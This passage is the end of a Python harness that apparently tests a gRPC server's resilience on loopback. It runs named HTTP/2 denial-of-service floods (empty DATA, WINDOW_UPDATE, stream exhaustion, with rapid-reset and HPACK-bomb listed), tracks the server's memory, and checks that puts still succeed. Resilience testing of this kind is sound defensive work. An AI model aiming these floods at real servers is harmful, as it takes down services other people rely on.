            att.idle(c, 0.01)  # wait for the answer (a second at most) so 201 is closed
            continue
        att.send(c, batch, BATCH)


def flood_on_open_stream(att, batch_for):
    """Keeps one Put open whose body never comes (a new one if the server ends it) and sends
    batch_for(stream) on the connection again and again."""
    call = request_block(PUT_PATH, att.authority)
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        stream = c.state.get("stream")
        if stream is None or stream in c.closed:
            stream = c.state["stream"] = c.new_stream(track=True)
            att.send(c, frame(HEADERS, END_HEADERS, stream, call))
            c.state["batch"] = batch_for(stream)
        att.send(c, c.state["batch"], BATCH)


def empty_data_flood(att):
    flood_on_open_stream(att, lambda stream: frame(DATA, 0, stream) * BATCH)


def window_update_flood(att):
    flood_on_open_stream(att, lambda stream: (window_update(0, 1) + window_update(stream, 1)) * (BATCH // 2))


def stream_exhaustion(att):
    call = request_block(PUT_PATH, att.authority)
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        held = c.streams_opened - c.streams_ended
        if held >= HELD_STREAMS_MAX:
            att.idle(c)  # as many held as this script allows itself: keep holding them
            continue
        out = [frame(HEADERS, END_HEADERS, c.new_stream(), call) for _ in range(min(64, HELD_STREAMS_MAX - held))]
        att.send(c, b"".join(out), len(out))


def baseline(att):
    # No attack: the checker alone, for what its own puts grow the server by (each put adds a
    # revision and a log entry the server keeps until compaction and snapshots let them go).
    while att.running():
        time.sleep(0.1)


# name -> (attack, does the attacking connection read, SETTINGS it sends, setup before the clock)
ATTACKS = {
    "baseline": (baseline, True, {}, None),
    "ping-flood": (ping_flood, False, {}, None),
    "settings-flood": (settings_flood, False, {}, None),
    "unending-bodies": (unending_bodies, True, {}, None),
    "zero-window": (zero_window, False, {INITIAL_WINDOW_SIZE: 0}, seed_zero_window),
    "rapid-reset": (rapid_reset, True, {}, None),
    "continuation-flood": (continuation_flood, True, {}, None),
    "hpack-bomb": (hpack_bomb, True, {}, None),
    "rst-flood": (rst_flood, True, {}, None),
    "empty-data-flood": (empty_data_flood, True, {}, None),
    "window-update-flood": (window_update_flood, True, {}, None),
    "stream-exhaustion": (stream_exhaustion, True, {}, None),
}


# ---------------------------------------------------------------------------------------------
# Running and reporting

GROWTH_MAX_MB = 64


def mb(kb):
    return round(kb / 1024)


def describe_ends(att):
    n = sum(att.ends.values())
    if n == 0:
        return "closed by server 0x"
    if len(att.ends) == 1:
        return f"closed by server {n}x ({next(iter(att.ends))})"
    return f"closed by server {n}x (" + ", ".join(f"{k} {v}x" for k, v in att.ends.most_common()) + ")"


def run_attack(name, args, target, endpoints):
    """Runs one attack with the checker and the sampler; prints its lines; True if it passed."""
    attack, reads, settings, setup = ATTACKS[name]
    if setup is not None:
        setup(target)
    before = rss_kb(args.pid) if args.pid else None
    sampler = RssSampler(args.pid) if args.pid else None
    if sampler:
        sampler.start()
    checker = Checker(endpoints)
    checker.start()
    att = Attacker(target, args.seconds, reads, settings)
    try:
        attack(att)
    finally:
        att.finish()
    elapsed = time.monotonic() - att.started
    checker.stop.set()
    checker.join(2.0)
    if sampler:
        sampler.stop.set()
        sampler.join(2.0)
    time.sleep(1.0)  # let the server release what the closed connection held
    after = rss_kb(args.pid) if args.pid else None

    alive = True
    if args.pid:
        alive = after is not None and not sampler.died
        peak = max(sampler.peak, before or 0)
        growth = mb(peak - before) if before is not None else 0
        rss = (f"rss {mb(before)} -> peak {mb(peak)} MB (+{growth})" if alive
               else f"rss {mb(before)} -> peak {mb(peak)} MB, SERVER DIED")
        if alive:
            rss += f", after {mb(after)}"
    else:
        growth = 0
        rss = "rss not watched (no --pid)"
    passed = alive and growth < GROWTH_MAX_MB and checker.failed == 0
    slowest = f"{checker.slowest:.3f} s"
    print(f"{name}: {elapsed:.1f} s, {att.opened} connection(s) opened, {describe_ends(att)}, {rss}, "
          f"puts {checker.ok} ok, {checker.failed} failed, slowest {slowest}"
          f"{'' if passed else '  FAILED'}")
    details = [f"{att.frames_sent} frames sent", f"{att.throttled:.1f} s waiting on the server (throttled)",
               f"{att.streams_opened} streams opened"
               + (f", {att.streams_ended} ended by the server" if att.reads and att.streams_opened else "")]
    if att.resets:
        details.append("server reset " + ", ".join(f"{k} {v}x" for k, v in att.resets.most_common()))
    for code, text in att.goaway_texts.items():
        if text:
            details.append(f"GOAWAY {code} said {text!r}")
    if att.still_open_after_goaway:
        details.append("the last connection was still open after its GOAWAY")
    if att.connect_failures:
        details.append("connects failed: " + ", ".join(f"{k} {v}x" for k, v in att.connect_failures.items()))
    if checker.reasons:
        details.append("put failures: " + ", ".join(f"{k} {v}x" for k, v in checker.reasons.most_common()))
    print("    " + "; ".join(details), flush=True)
    return passed, alive


def parse_args():
    parser = argparse.ArgumentParser(
        description="Hostile HTTP/2 clients against one gRPC port on loopback, with a put checker.")
    parser.add_argument("--target", required=True, help="HOST:PORT of the gRPC port (loopback only)")
    parser.add_argument("--seconds", type=float, default=60.0, help="how long each attack runs (default 60)")
    parser.add_argument("--attacks", default="all", help="all, or a comma-separated list of: " + ", ".join(ATTACKS))
    parser.add_argument("--pid", type=int, help="the server's process id, to watch its resident size")
    parser.add_argument("--put-endpoints", help="HOST:PORT,... the checker puts to (default: the target)")
    args = parser.parse_args()
    if not args.seconds > 0:
        parser.error("--seconds must be above 0")
    names = list(ATTACKS) if args.attacks == "all" else [n.strip() for n in args.attacks.split(",") if n.strip()]
    unknown = [n for n in names if n not in ATTACKS]
    if unknown or not names:
        parser.error(f"unknown attack(s) {', '.join(unknown) or '(none given)'}; known: {', '.join(ATTACKS)}")
    args.names = names
    if args.pid and rss_kb(args.pid) is None:
        parser.error(f"no live process {args.pid}")
    return args


def main():
    args = parse_args()
    target = parse_endpoint(args.target)
    endpoints = [parse_endpoint(e) for e in (args.put_endpoints or args.target).split(",") if e.strip()]

    # The whole run's bound, whatever happens in it.
    limit = len(args.names) * (args.seconds + 10)
    watchdog = threading.Timer(limit, lambda: (print(f"attack-front: still running after {limit:.0f} s, giving up",
                                                     flush=True), os._exit(1)))
    watchdog.daemon = True
    watchdog.start()

    # The attacker loops in Python too: switch threads often so the checker's latency is the
    # server's, not time spent waiting for the interpreter lock.
    sys.setswitchinterval(0.001)

    ok, why = unary_put(endpoints[0], Checker.KEY, b"start", 3.0)
    if not ok:
        print(f"attack-front: {args.target} answers no put before any attack ({why})", file=sys.stderr)
        sys.exit(2)

    passed = failed = 0
    for name in args.names:
        if args.pid and rss_kb(args.pid) is None:
            print(f"{name}: skipped, the server (pid {args.pid}) is gone  FAILED", flush=True)
            failed += 1
            continue
        good, _ = run_attack(name, args, target, endpoints)
        passed += good
        failed += not good
    print(f"attacks: {passed} passed, {failed} failed", flush=True)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
